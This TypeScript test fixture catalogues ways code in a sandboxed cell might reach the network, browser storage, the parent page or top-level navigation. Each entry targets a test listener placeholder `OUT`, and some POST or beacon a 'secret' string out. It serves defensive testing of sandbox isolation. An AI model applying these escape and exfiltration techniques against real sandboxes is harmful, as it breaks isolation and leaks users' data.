/**
 * Ways out of the room in which a cell's code runs: name, then code that takes the way or throws. `OUT` is an address at which
 * the test listens, by http, by a socket and by UDP; `return 'out'` says that something was reached which no request shows.
 * To each belongs a control: the same code where nothing is closed does get out (`ways-out.spec.ts`).
 */
export type Way = readonly [name: string, code: string];

/** Waits for whichever of an object's events comes first; refused where that is an error. */
const until = (made: string, good: string, bad = 'onerror'): string =>
  `const it = ${made}; await new Promise((ok, no) => { it.${good} = ok; it.${bad} = no; });`;
const worker = (code: string, kind = ''): string =>
  `${until(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: 'text/javascript' }))${kind})`, 'onmessage')} return it;`;
const asksAndTells = "fetch('OUT').then(() => postMessage(1), () => postMessage(0))";

/** By the network, from a cell's own worker. */
export const byNetwork: readonly Way[] = [
  ['fetch', "await fetch('OUT')"],
  ['fetch without an answer', "await fetch('OUT', { mode: 'no-cors' })"],
  ['fetch that outlives the page', "await fetch('OUT', { keepalive: true })"],
  ['fetch that posts', "await fetch('OUT', { method: 'POST', body: 'secret' })"],
  ['fetch of a request', "await fetch(new Request('OUT'))"],
  [
    'fetch by a form',
    "const f = new FormData(); f.append('a', 'b'); await fetch('OUT', { method: 'POST', body: f })",
  ],
  ['fetch with cookies', "await fetch('OUT', { credentials: 'include', mode: 'no-cors' })"],
  [
    'fetch by a getter of the prototype',
    "await Reflect.get(Object.getPrototypeOf(self), 'fetch').call(self, 'OUT')",
  ],
  ['XMLHttpRequest, waited for', "const x = new XMLHttpRequest(); x.open('GET', 'OUT', false); x.send()"],
  [
    'XMLHttpRequest',
    `${until('new XMLHttpRequest()', 'onload; it.open("GET", "OUT"); it.send(); it.onload = ok')}`,
  ],
  ['WebSocket', until("new WebSocket('OUT'.replace('http', 'ws'))", 'onopen')],
  ['WebSocketStream', "await new WebSocketStream('OUT'.replace('http', 'ws')).opened"],
  ['EventSource', until("new EventSource('OUT')", 'onopen')],
  ['WebTransport', "await new WebTransport('OUT'.replace('http', 'https')).ready"],
  ['importScripts', "importScripts('OUT')"],
  ['importScripts of two', "importScripts('OUT', 'OUT')"],
  ['importScripts in a data address', "importScripts('data:text/javascript,importScripts(`OUT`)')"],
  [
    'importScripts in a blob',
    "importScripts(URL.createObjectURL(new Blob(['importScripts(`OUT`)'], { type: 'text/javascript' })))",
  ],
  ['import()', "await import(/**/ 'OUT')"],
  [
    'import() of a data address that imports',
    "await import('data:text/javascript,import `OUT`'.replaceAll('`', '\"'))",
  ],
  [
    'import() of a blob that imports',
    "await import(URL.createObjectURL(new Blob(['import \"OUT\"'], { type: 'text/javascript' })))",
  ],
  ['import() in a function made of text', 'await new Function(\'return import(/**/ "OUT")\')()'],
  ['a worker in the worker', worker(asksAndTells)],
  [
    'a worker of a data address',
    until(`new Worker(${JSON.stringify(`data:text/javascript,${asksAndTells}`)})`, 'onmessage'),
  ],
  ['a worker of an address', until("new Worker('OUT')", 'onmessage')],
  ['a worker of modules', worker('import "OUT"; postMessage(1)', ", { type: 'module' }")],
  [
    'a worker in a worker in the worker',
    worker(
      `const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(asksAndTells)}]))); w.onmessage = () => postMessage(1); w.onerror = () => postMessage(0)`,
    ),
  ],
  ['a typeface', "await new FontFace('x', 'url(OUT)').load()"],
  [
    'a typeface of the room',
    "const f = new FontFace('x', 'url(OUT)'); self.fonts.add(f); await self.fonts.load('1em x')",
  ],
  ['the cache', "await (await caches.open('x')).add('OUT')"],
  ['WebAssembly by the network', "await WebAssembly.instantiateStreaming(fetch('OUT'))"],
  [
    'a stream piped away',
    "await fetch('OUT', { method: 'POST', body: new Blob(['a']).stream(), duplex: 'half' }).catch(() => fetch('OUT'))",
  ],
  [
    'fetch given up and asked again',
    "const a = new AbortController(); a.abort(); await fetch('OUT', { signal: a.signal }).catch(() => fetch('OUT'))",
  ],
];

/** By what the language itself can reach: another way to the same room's own network. */
export const byLanguage: readonly Way[] = [
  ['a function made of text', "await Function('return this')().fetch('OUT')"],
  ['eval from outside', 'await (0, eval)(\'fetch("OUT")\')'],
  ['the constructor of a constructor', 'await [].constructor.constructor(\'return fetch("OUT")\')()'],
  ['the constructor of async functions', 'await (async () => {}).constructor(\'await fetch("OUT")\')()'],
  [
    'the constructor of generators',
    'await (function* () {}).constructor(\'yield fetch("OUT")\')().next().value',
  ],
  ['Reflect', 'await Reflect.construct(Function, [\'return fetch("OUT")\'])()'],
  [
    'a timer of text',
    'await new Promise((ok, no) => { self.done = ok; self.failed = no; setTimeout(\'fetch("OUT").then(done, failed)\') })',
  ],
  [
    'the stack of an error',
    "Error.prepareStackTrace = (_, frames) => frames; const [f] = new Error().stack; delete Error.prepareStackTrace; await (f.getThis() ?? globalThis).fetch('OUT')",
  ],
  ['a getter', "await ({ get x() { return fetch('OUT') } }).x"],
  ['a thenable', "await { then: (ok, no) => fetch('OUT').then(ok, no) }"],
  ['a tagged template', 'await (([a]) => fetch(a))`OUT`'],
  ['a class that is built', "await new (class { constructor() { this.x = fetch('OUT') } })().x"],
  [
    'an iterator that is ended',
    "let p; for (const _ of { [Symbol.iterator]: () => ({ next: () => ({ done: false }), return() { p = fetch('OUT'); return {} } }) }) break; await p",
  ],
  ['a proxy', "await new Proxy(fetch, {})('OUT').catch((e) => Reflect.apply(fetch, self, ['OUT']))"],
  ['a microtask', "await new Promise((ok, no) => queueMicrotask(() => fetch('OUT').then(ok, no)))"],
  [
    'a message to oneself',
    "const c = new MessageChannel(); await new Promise((ok, no) => { c.port1.onmessage = ({ data }) => fetch(data).then(ok, no); c.port2.postMessage('OUT') })",
  ],
  [
    'a worker of its own text',
    "const own = async () => fetch('OUT').then(() => postMessage(1), () => postMessage(0)); await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['(' + own + ')()']))); w.onmessage = ok; w.onerror = no })",
  ],
];

/** Into what the browser keeps, or to other pages of the site. `SAID` is heard by the test where a page of the site listens. */
export const byStorage: readonly Way[] = [
  ['a database', `${until("indexedDB.open('x')", 'onsuccess')} return 'out'`],
  ['a database taken away', `${until("indexedDB.deleteDatabase('y')", 'onsuccess')} return 'out'`],
  ['the names of databases', "await indexedDB.databases(); return 'out'"],
  ['the cache, opened', "await caches.open('x'); return 'out'"],
  ['the cache, taken away', "await caches.delete('y'); return 'out'"],
  ['the names of caches', "await caches.keys(); return 'out'"],
  ['files of the origin', "await navigator.storage.getDirectory(); return 'out'"],
  ['how much is stored', "await navigator.storage.estimate(); return 'out'"],
  ['a bucket', "await navigator.storageBuckets.open('x'); return 'out'"],
  ['a lock that others see', "await navigator.locks.request('x', () => 1); return 'out'"],
  ['who holds locks', "await navigator.locks.query(); return 'out'"],
  ['a channel to other tabs', "new BroadcastChannel('ways-out').postMessage('SAID')"],
  [
    'an address of a blob that another page could open',
    "if (!URL.createObjectURL(new Blob(['a'])).startsWith('blob:http')) throw 0; return 'out'",
  ],
  ['the address of the page', "if (!self.location.href.includes('http')) throw 0; return 'out'"],
];

const put = (html: string): string =>
  `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)})`;
const style = (css: string): string =>
  put(`<style>${css}</style><p id=styled style=font-family:x>styled</p>`);
const make = (tag: string, set: string, then = ''): string =>
  `const e = document.createElement('${tag}'); Object.assign(e, ${set}); document.body.append(e); ${then}`;

/** From the frame around the worker, should somebody come as far: its own policy is the second wall. */
export const byDocument: readonly Way[] = [
  ['fetch', "await fetch('OUT')"],
  ['XMLHttpRequest', "const x = new XMLHttpRequest(); x.open('GET', 'OUT', false); x.send()"],
  ['WebSocket', until("new WebSocket('OUT'.replace('http', 'ws'))", 'onopen')],
  ['EventSource', until("new EventSource('OUT')", 'onopen')],
  ['a beacon', "navigator.sendBeacon('OUT', 'secret')"],
  ['an image', "new Image().src = 'OUT'"],
  ['a sound', "new Audio('OUT').load()"],
  ['an image of a page', put('<img src=OUT>')],
  ['an image of several sizes', put("<img srcset='OUT 1x, OUT 2x'>")],
  ['an image to choose', put('<picture><source srcset=OUT><img></picture>')],
  ['an image in a drawing', put('<svg width=9 height=9><image href=OUT width=9 height=9 /></svg>')],
  ['a button that is an image', put('<input type=image src=OUT>')],
  ['a film', put('<video src=OUT preload=auto></video>')],
  ['a picture before a film', put('<video poster=OUT></video>')],
  ['a sound of a page', put('<audio src=OUT preload=auto></audio>')],
  ['an embedded thing', put('<embed src=OUT>')],
  ['an object', put('<object data=OUT></object>')],
  ['a frame', put('<iframe src=OUT></iframe>')],
  ['an image in a frame of text', put("<iframe srcdoc='<img src=OUT>'></iframe>")],
  ['a style sheet', put('<link rel=stylesheet href=OUT>')],
  ['a sheet asked for ahead', put('<link rel=preload as=style href=OUT>')],
  ['a page asked for ahead', put('<link rel=prefetch href=OUT>')],
  ['a module asked for ahead', put('<link rel=modulepreload href=OUT>')],
  ['a sheet in a sheet', style('@import url(OUT);')],
  ['a background', style('#styled { background: url(OUT) }')],
  ['a background of an attribute', put("<p style='background:url(OUT)'>x</p>")],
  ['a background of old', put('<table background=OUT><tr><td>x</table>')],
  ['a mark of a list', style('#styled { display: list-item; list-style: url(OUT) }')],
  ['a border', style('#styled { border: 9px solid; border-image: url(OUT) 9 }')],
  ['contents', style('#styled::before { content: url(OUT) }')],
  ['a mask', style('#styled { mask-image: url(OUT) }')],
  ['a typeface of a sheet', style('@font-face { font-family: x; src: url(OUT) }')],
  ['a script', make('script', "{ src: 'OUT' }")],
  ['a script of modules', make('script', "{ type: 'module', src: 'OUT' }")],
  ['import()', "await import(/**/ 'OUT')"],
  ['a worker', until("new Worker('OUT')", 'onmessage')],
  ['a shared worker', "new SharedWorker('OUT'); return 'out'"],
  ['a service worker', "await navigator.serviceWorker.getRegistrations(); return 'out'"],
  ['a link that tells', make('a', "{ href: '#x', ping: 'OUT' }", 'e.click()')],
  [
    'a form into a frame',
    put('<iframe name=into></iframe><form action=OUT target=into method=post></form>') +
      '; document.forms[document.forms.length - 1].submit()',
  ],
  ['a window', "if (!open('OUT')) throw 0"],
  ['a link to a window', make('a', "{ href: 'OUT', target: '_blank' }", 'e.click()')],
  [
    'a page written anew',
    "const f = document.createElement('iframe'); document.body.append(f); f.contentDocument.write('<img src=OUT>')",
  ],
  ['cookies', "document.cookie = 'a=b'; if (!document.cookie.includes('a=b')) throw 0; return 'out'"],
  ['storage', "localStorage.setItem('a', 'b'); return 'out'"],
  ['storage of a session', "sessionStorage.setItem('a', 'b'); return 'out'"],
  ['a database', `${until("indexedDB.open('x')", 'onsuccess')} return 'out'`],
  ['the page around it', "if (!parent.document.title) throw 0; return 'out'"],
  ['the storage of the page around it', "parent.localStorage.setItem('a', 'b'); return 'out'"],
  ['a variable of the page around it', "parent.reached = 1; return 'out'"],
  ['the frame element', "if (!frameElement) throw 0; frameElement.removeAttribute('sandbox'); return 'out'"],
];

/** The same, each in a frame or page of its own, since it leaves that if it can. */
export const byLeaving: readonly Way[] = [
  ['an address', "location.href = 'OUT'"],
  ['an address in place of this one', "location.replace('OUT')"],
  ['an address that comes by itself', put("<meta http-equiv=refresh content='0;url=OUT'>")],
  ['a link', make('a', "{ href: 'OUT' }", 'e.click()')],
  ['a form', make('form', "{ action: 'OUT' }", 'e.submit()')],
  ['the address of the whole page', "top.location.href = 'OUT'"],
  ['a link for the whole page', make('a', "{ href: 'OUT', target: '_top' }", 'e.click()')],
  ['a form for the whole page', make('form', "{ action: 'OUT', target: '_top' }", 'e.submit()')],
];
